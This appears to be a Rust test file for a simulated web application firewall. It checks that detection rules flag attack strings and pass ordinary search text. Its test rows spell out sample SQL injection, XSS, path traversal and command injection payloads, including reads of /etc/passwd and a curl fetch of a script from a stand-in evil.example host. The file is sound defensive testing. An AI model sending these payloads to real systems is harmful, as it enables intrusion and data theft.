//! The WAF's rules: attacks that it must see, and ordinary text that it must leave alone.

#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use gauntlet_sim::http::Request;
use gauntlet_sim::layer::waf::{fields, matches};
use gauntlet_sim::scenario::model::AttackFamily;

const ALL: [AttackFamily; 5] = [
    AttackFamily::SqlInjection,
    AttackFamily::CrossSiteScripting,
    AttackFamily::PathTraversal,
    AttackFamily::CommandInjection,
    AttackFamily::Scanner,
];

fn rules(query: &str) -> Vec<&'static str> {
    let mut request = Request::get("site.example", "/products");
    request.query = form_urlencoded::Serializer::new(String::new()).append_pair("q", query).finish();
    matches(&ALL, &fields(&request)).iter().map(|found| found.rule).collect()
}

#[test]
fn attacks_are_seen_by_the_rule_for_them() {
    let rows = [
        ("' OR 1=1 --", "sqli-tautology"),
        ("' or '1'='1", "sqli-tautology"),
        ("x' OR 'a'='a", "sqli-tautology"),
        ("x'or 1=1#", "sqli-tautology"),
        ("\" or \"\"=\"", "sqli-tautology"),
        ("') or ('1'='1", "sqli-tautology"),
        ("' oR/**/1=1/*", "sqli-tautology"),
        ("' || 1=1 --", "sqli-tautology"),
        ("1 or 1=1", "sqli-tautology"),
        ("1) or (1=1", "sqli-tautology"),
        ("' or true --", "sqli-tautology"),
        ("' or not 1=2 --", "sqli-tautology"),
        ("' or 1 like 1 --", "sqli-tautology"),
        ("' or x=x --", "sqli-tautology"),
        ("%27 OR 1=1", "sqli-tautology"),
        ("' UNION SELECT null,null --", "sqli-union-select"),
        ("1 union all select user, password from users", "sqli-union-select"),
        ("' union/**/select password from users", "sqli-union-select"),
        ("'; DROP TABLE users; --", "sqli-stacked-statement"),
        ("1; delete from orders", "sqli-stacked-statement"),
        ("1; update users set admin=1", "sqli-stacked-statement"),
        ("admin'--", "sqli-comment-terminator"),
        ("admin' #", "sqli-comment-terminator"),
        ("admin') -- ", "sqli-comment-terminator"),
        ("' order by 5 --", "sqli-comment-terminator"),
        ("' and sleep(5) --", "sqli-function"),
        ("1 and benchmark(1000000,md5(1))", "sqli-function"),
        ("'; waitfor delay '0:0:5' --", "sqli-function"),
        ("' and (select count(*) from users) > 0", "sqli-subquery"),
        ("<script>alert(1)</script>", "xss-script-tag"),
        ("<ScRiPt src=//evil.example>", "xss-script-tag"),
        ("<img src=x onerror=alert(1)>", "xss-event-handler"),
        ("<svg/onload=alert(1)>", "xss-event-handler"),
        ("\" onmouseover=\"alert(1)", "xss-event-handler"),
        ("javascript:alert(1)", "xss-script-address"),
        ("<iframe src=//evil.example>", "xss-embedding-tag"),
        ("../../etc/passwd", "traversal-parent"),
        ("..%2f..%2fetc%2fpasswd", "traversal-parent"),
        ("..\\..\\windows\\win.ini", "traversal-parent"),
        ("/etc/passwd", "traversal-system-file"),
        ("file:///etc/shadow", "traversal-system-file"),
        ("report.pdf\0.png", "traversal-null-byte"),
        ("x; cat /etc/passwd", "command-chain"),
        ("8.8.8.8 && whoami", "command-chain"),
        ("a|id", "command-chain"),
        ("x; curl http://evil.example/x.sh", "command-chain"),
        ("$(cat /etc/passwd)", "command-substitution"),
        ("`id`", "command-substitution"),
    ];
    for (query, rule) in rows {
        assert!(rules(query).contains(&rule), "{query}: {:?}, wanted {rule}", rules(query));
    }
}

#[test]
fn ordinary_text_is_left_alone() {
    let rows = [
        "shoes",
        "O'Brien",
        "O'Brien or O'Neill",
        "Don't stop -- ever",
        "select a plan",
        "union square",
        "the union selected a leader",
        "union select committee",
        "rock 'n' roll",
        "black & white",
        "salt and pepper",
        "5' or 6' ladder",
        "size 10 or 11",
        "drop shipping; create an account",
        "fish; chips",
        "cats; dogs",
        "food for dogs; cat food",
        "how to use sleep(5) in python",
        "1 + 1 = 2",
        "x = y",
        "C# for beginners",
        "#1 seller",
        "50% off -- today only",
        "a < b and c > d",
        "<3 love this",
        "I'm on=line",
        "javascript: the good parts",
        "script writing",
        "see ../docs",
        "and/or",
        "version 1..2",
        "what is in /etc/passwd",
        "who am i | a memoir",
        "id; name",
        "M&Ms",
        "\"quoted phrase\" search",
        "'single quoted'",
        "Tom & Jerry's \"best\" -- 1990",
        "price >= 100 and price <= 200",
        "where can I delete from my list",
        "insert into slot 3",
    ];
    for text in rows {
        assert_eq!(rules(text), Vec::<&str>::new(), "{text}");
    }
}

#[test]
fn every_part_of_a_request_is_read() {
    let rows = [
        ("GET /../../etc/passwd HTTP/1.1\nHost: x\n\n", "traversal-parent", "path"),
        ("GET /%2e%2e/secret HTTP/1.1\nHost: x\n\n", "traversal-parent", "path"),
        ("GET /.git/config HTTP/1.1\nHost: x\n\n", "scanner-probe", "path"),
        ("GET /?q=%27%20OR%201%3D1%20-- HTTP/1.1\nHost: x\n\n", "sqli-tautology", "query.q"),
        ("GET /?q=%2527+OR+1%253D1 HTTP/1.1\nHost: x\n\n", "sqli-tautology", "query.q"),
        ("GET / HTTP/1.1\nHost: x\nUser-Agent: sqlmap/1.8\n\n", "scanner-user-agent", "header.User-Agent"),
        ("GET / HTTP/1.1\nHost: x\nReferer: () { :;}; /bin/x\n\n", "command-shellshock", "header.Referer"),
        ("GET / HTTP/1.1\nHost: x\nCookie: id=1' or 1=1 --\n\n", "sqli-tautology", "header.Cookie"),
        (
            "POST / HTTP/1.1\nHost: x\nContent-Type: application/x-www-form-urlencoded\nContent-Length: 20\n\nname=%27+or+1%3D1+--",
            "sqli-tautology",
            "body.name",
        ),
        (
            "POST / HTTP/1.1\nHost: x\nContent-Length: 28\n\n{\"q\":\"<script>x()</script>\"}",
            "xss-script-tag",
            "body",
        ),
    ];
    for (text, rule, field) in rows {
        let request = Request::parse(text.as_bytes()).unwrap_or_else(|error| panic!("{text}: {error}"));
        let found = matches(&ALL, &fields(&request));
        assert!(found.iter().any(|m| m.rule == rule && m.field == field), "{text}: {found:?}");
    }
}

#[test]
fn browsers_headers_are_left_alone() {
    let text = "GET / HTTP/1.1\nHost: x\n\
        User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\n\
        Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\nAccept-Language: en-US,en;q=0.5\n\
        Referer: https://site.example/a/../b?x=1\nIf-None-Match: \"abc-123\"\n\
        Cookie: id=5; name=O'Brien; theme=dark; cart=1|2|3\nAuthorization: Basic YTpi==\n\n";
    let request = Request::parse(text.as_bytes()).unwrap();
    assert_eq!(matches(&ALL, &fields(&request)), []);
}
